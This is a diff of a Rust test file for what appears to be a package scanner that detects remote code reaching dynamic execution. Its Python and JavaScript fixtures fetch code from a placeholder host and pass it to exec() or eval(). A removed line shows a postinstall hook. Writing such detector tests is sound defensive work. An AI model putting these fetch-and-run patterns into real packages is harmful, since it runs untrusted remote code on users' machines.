@@ -1,20 +1,11 @@
 //! What callers hand in, and objects of classes below another.
 
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::{remote_code, script, wheel};
+use crate::unpack::{Entry, text_file as file};
+use customs_model::Zone;
 
 fn runs(entries: Vec<Entry>) -> bool {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    found.flows.iter().any(|flow| {
-        flow.source == SourceKind::Remote
-            && flow.sink == SinkKind::DynamicCode
-            && flow.zone > Zone::Command
-    })
+    remote_code(entries) > Some(Zone::Command)
 }
 
 fn python(code: &str) -> bool {
@@ -23,20 +14,13 @@ import urllib.request
 def go(*more):
     exec(urllib.request.urlopen('https://a.invalid/b').read())
 ";
-    runs(vec![
-        file("a/__init__.py", &format!("{go}{code}")),
-        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-    ])
+    runs(wheel(&format!("{go}{code}")))
 }
 
 fn javascript(code: &str) -> bool {
     let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
         let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
-    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
-    runs(vec![
-        file("package.json", manifest),
-        file("i.js", &format!("{go}\n{code}")),
-    ])
+    runs(script(&format!("{go}\n{code}")))
 }
 
 #[test]
